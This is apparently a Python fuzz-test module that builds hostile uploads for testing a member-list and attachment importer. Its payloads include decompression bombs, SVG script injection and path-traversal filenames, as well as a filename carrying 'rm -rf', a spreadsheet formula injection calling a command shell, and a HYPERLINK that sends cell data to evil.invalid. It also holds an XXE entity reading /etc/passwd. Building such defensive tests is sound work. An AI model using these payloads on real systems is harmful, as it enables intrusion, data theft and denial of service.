"""Hostile files: attachments (PDF, DOCX, pictures) and member lists (CSV, Excel, JSONL), whole,
truncated, corrupted, disguised, or built to explode when opened."""
from __future__ import annotations

import csv
import functools
import io
import struct
import zipfile
import zlib

from hypothesis import strategies as st
from PIL import Image

from tests import samples
from tests.fuzz.strategies import INJECTIONS, hostile_bytes, hostile_text

# --- attachments --------------------------------------------------------------------------------

PDF = samples.pdf("Noi dung nghi quyet", pages=2)


def _zip(entries: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    return _zip({"[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
                 "word/document.xml": "<w:document><w:body>Tài liệu</w:body></w:document>".encode(),
                 **(extra or {})})


def picture(fmt: str, size=(64, 48), mode="RGB", **options) -> bytes:
    image = Image.new(mode, size, (200, 30, 30) if mode == "RGB" else (200, 30, 30, 128))
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A PNG that declares a huge picture and holds almost nothing (a "pixel flood")."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    body = struct.pack(">I", len(ihdr)) + chunk + struct.pack(">I", zlib.crc32(chunk))
    idat = zlib.compress(b"\x00" * 1024)
    body += struct.pack(">I", len(idat)) + b"IDAT" + idat + struct.pack(">I", zlib.crc32(b"IDAT" + idat))
    return b"\x89PNG\r\n\x1a\n" + body + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))


def jpeg_header(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header claims other dimensions."""
    data = bytearray(picture("JPEG", (16, 16)))
    at = data.find(b"\xff\xc0")
    data[at + 5:at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


@functools.cache
def bombs() -> dict[str, bytes]:
    """Files small on the wire that grow huge when opened (built once, they take a moment)."""
    flat = Image.new("L", (7000, 7000))  # 49 Mpx: just under the limit, a few hundred KB of PNG
    out = io.BytesIO()
    flat.save(out, "PNG", optimize=False, compress_level=9)
    return {
        "bomb.png": out.getvalue(),
        "bomb.docx": docx({"word/media/zeros.bin": b"\x00" * (60 * 2 ** 20)}),
        "nested.docx": docx({"word/inner.zip": _zip({"x": b"\x00" * (20 * 2 ** 20)})}),
    }


# EXIF saying "turn me 90°" (orientation 6), as a phone held sideways writes it.
ROTATED = b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x01\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06\x00\x00"
GOOD_FILES = {
    "nghi-quyet.pdf": PDF,
    "tai-lieu.docx": docx(),
    "anh.png": picture("PNG"),
    "anh.jpg": picture("JPEG"),
    "anh.webp": picture("WEBP"),
    "trong-suot.png": picture("PNG", mode="RGBA"),
    "xoay.jpg": picture("JPEG", exif=ROTATED),
}
BAD_FILES = {
    "dong.gif": picture("GIF"),
    "anh.bmp": picture("BMP"),
    "anh.tiff": picture("TIFF"),
    "ve.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "trang.html": b"<html><script>window.__pwned=1</script></html>",
    "chuong-trinh.pdf": b"MZ\x90\x00\x03" + b"\x00" * 200,
    "nen.zip": _zip({"a.txt": b"x"}),
    "macro.docx": docx({"word/vbaProject.bin": b"\x00macro"}),
    "rong.pdf": b"",
    "polyglot.jpg": b"GIF89a/*" + b"\x00" * 10 + b"*/=alert(1);",
    "flood.png": png_header(100_000, 100_000),
    "dai.jpg": jpeg_header(60_000, 60_000),
    "hep.png": png_header(1, 1_000_000),
    "khong.png": png_header(0, 0),
}
FILENAMES = ["../../etc/passwd", "..\\..\\boot.ini", "CON.pdf", "a" * 400 + ".pdf", ".pdf", "",
             "Nghị quyết.pdf", "Nghi\u0323 quyê\u0301t.pdf", "\u202etxt.exe", "x\x00.pdf", "<img src=x>.png",
             "tài liệu;rm -rf.docx", "ảnh\r\nContent-Type: text/html.jpg"]


def _truncate(data: bytes, cut: int) -> bytes:
    return data[:max(0, len(data) * cut // 100)]


def _flip(data: bytes, spots: list[int]) -> bytes:
    if not data:
        return data
    out = bytearray(data)
    for spot in spots:
        out[spot % len(out)] ^= 0xFF
    return bytes(out)


MAGIC = [b"%PDF-", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"GIF89a"]


def attachment() -> st.SearchStrategy[tuple[bytes, str]]:
    """(bytes, filename): a good file, a bad one, one mutated, one disguised, or a bomb."""
    good = st.sampled_from(sorted(GOOD_FILES.items())).map(lambda f: (f[1], f[0]))
    bad = st.sampled_from(sorted(BAD_FILES.items())).map(lambda f: (f[1], f[0]))
    truncated = st.builds(lambda f, cut: (_truncate(f[0], cut), f[1]), good, st.integers(1, 99))
    flipped = st.builds(lambda f, spots: (_flip(f[0], spots), f[1]), good,
                        st.lists(st.integers(0, 10_000), min_size=1, max_size=8))
    disguised = st.builds(lambda f, magic: (magic + f[0][len(magic):], f[1]), good,
                          st.sampled_from(MAGIC))
    bomb = st.sampled_from(["bomb.png", "bomb.docx", "nested.docx"]).map(lambda n: (bombs()[n], n))
    named = st.builds(lambda f, name: (f[0], name), st.one_of(good, bad),
                      st.one_of(st.sampled_from(FILENAMES), hostile_text(), hostile_bytes()))
    return st.one_of(good, bad, truncated, flipped, disguised, named, bomb)


# --- member lists -------------------------------------------------------------------------------

HEADER = ["STT", "Họ và tên", "Số thẻ đảng viên", "Ngày sinh", "Giới tính", "Ngày vào Đảng",
          "Ngày chính thức", "Chi bộ", "Trạng thái", "Số điện thoại"]
FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1+1",
            '=HYPERLINK("http://evil.invalid/?x="&A1,"Bấm vào đây")', "=1+1", "'=1+1", "\r=2"]


def person(n: int, branch: str) -> list:
    return [n, f"Nguyễn Văn Thử {n}", f"8877{n:04d}", "02/03/1970", "Nam", "19/05/1995",
            "19/05/1996", branch, "Chính thức", f"0988{n:06d}"]


def cell_value() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(FORMULAS), hostile_text(), st.sampled_from(
        [t.format(m="imp") for t in INJECTIONS]))


@st.composite
def member_rows(draw, branch: str) -> list[list]:
    rows = [person(n, branch) for n in range(1, draw(st.integers(0, 6)) + 1)]
    for row in rows:
        for _ in range(draw(st.integers(0, 3))):
            row[draw(st.integers(1, len(row) - 1))] = draw(cell_value())
    if draw(st.booleans()):
        rows.append([draw(cell_value()) for _ in range(draw(st.integers(1, 70)))])
    return rows


def _csv_text(rows: list[list], header: list, delimiter: str, newline: str) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=newline).writerows([header] + rows)
    return out.getvalue()


@st.composite
def member_csv(draw, branch: str) -> tuple[bytes, str]:
    rows = draw(member_rows(branch))
    header = draw(st.sampled_from([HEADER, HEADER[::-1], [h.upper() for h in HEADER], HEADER[:3],
                                   ["a", "b", "c"], []]))
    text = _csv_text(rows, header, draw(st.sampled_from([",", ";", "\t", "|"])),
                     draw(st.sampled_from(["\r\n", "\n", "\r"])))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "cp1258", "latin-1",
                                     "utf-8", "utf-8"]))
    data = text.encode(encoding, "replace")
    mangle = draw(st.sampled_from(["none", "none", "truncate", "nul", "quote", "long", "bom-only"]))
    if mangle == "truncate":
        data = _truncate(data, draw(st.integers(1, 99)))
    elif mangle == "nul":
        data = data.replace(b",", b",\x00", 3)
    elif mangle == "quote":
        data = data.replace(b"\n", b'\n"', 2)
    elif mangle == "long":
        data += b'"' + b"x" * 200_000 + b'"\n'
    elif mangle == "bom-only":
        data = b"\xef\xbb\xbf"
    return data, draw(st.sampled_from(["danh-sach.csv", "ds.xlsx", "ds.txt", ""]))


def _xlsx(rows: list[list], header: list) -> bytes:
    import openpyxl
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = openpyxl.Workbook()
    sheet = book.active
    for row in [header] + rows:  # control characters cannot be written into a workbook at all
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", str(v))[:30000] if not isinstance(v, int) else v
                      for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rezip(data: bytes, change) -> bytes:
    """Rewrite an xlsx with `change(name, bytes) -> bytes | None` (None drops the entry)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            new = change(info.filename, src.read(info))
            if new is not None:
                dst.writestr(info.filename, new)
    return out.getvalue()


LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;'
          b'&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'
          b'&lol2;&lol2;&lol2;">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
          b'main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row>'
          b"</sheetData></worksheet>")
XXE = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet xmlns='
       b'"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" '
       b't="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>')


@st.composite
def member_xlsx(draw, branch: str) -> tuple[bytes, str]:
    data = _xlsx(draw(member_rows(branch)), draw(st.sampled_from([HEADER, HEADER[:4], ["x"]])))
    mangle = draw(st.sampled_from(["none", "none", "truncate", "flip", "no-sheet", "no-workbook",
                                   "dimension", "laughs", "xxe", "bomb", "strings"]))
    sheet = "xl/worksheets/sheet1.xml"
    if mangle == "truncate":
        data = _truncate(data, draw(st.integers(1, 99)))
    elif mangle == "flip":
        data = _flip(data, draw(st.lists(st.integers(0, 20_000), min_size=1, max_size=6)))
    elif mangle == "no-sheet":
        data = _rezip(data, lambda n, b: None if n == sheet else b)
    elif mangle == "no-workbook":
        data = _rezip(data, lambda n, b: None if n == "xl/workbook.xml" else b)
    elif mangle == "dimension":
        data = _rezip(data, lambda n, b: b.replace(b'<dimension ref="', b'<dimension ref="A1:XFD1048576" x="')
                      if n == sheet else b)
    elif mangle == "laughs":
        data = _rezip(data, lambda n, b: LAUGHS if n == sheet else b)
    elif mangle == "xxe":
        data = _rezip(data, lambda n, b: XXE if n == sheet else b)
    elif mangle == "bomb":
        pad = b"<!-- " + b" " * (40 * 2 ** 20) + b" -->"
        data = _rezip(data, lambda n, b: b.replace(b"<sheetData>", pad + b"<sheetData>") if n == sheet else b)
    elif mangle == "strings":
        data = _rezip(data, lambda n, b: b + b"<!--" + b"x" * (30 * 2 ** 20) + b"-->"
                      if n == "xl/sharedStrings.xml" else b)
    return data, draw(st.sampled_from(["danh-sach.xlsx", "ds.csv", "ds.xls"]))


def jsonl(branch: str) -> bytes:
    """A member list as JSON lines, the columns named as in the export."""
    import json

    return "\n".join(json.dumps(dict(zip(HEADER, person(n, branch))), ensure_ascii=False)
                     for n in range(1, 4)).encode()


def member_list(branch: str) -> st.SearchStrategy[tuple[bytes, str]]:
    return st.one_of(member_csv(branch), member_csv(branch), member_xlsx(branch),
                     st.just((jsonl(branch), "danh-sach.jsonl")),
                     st.sampled_from(sorted(BAD_FILES.items())).map(lambda f: (f[1], f[0])))
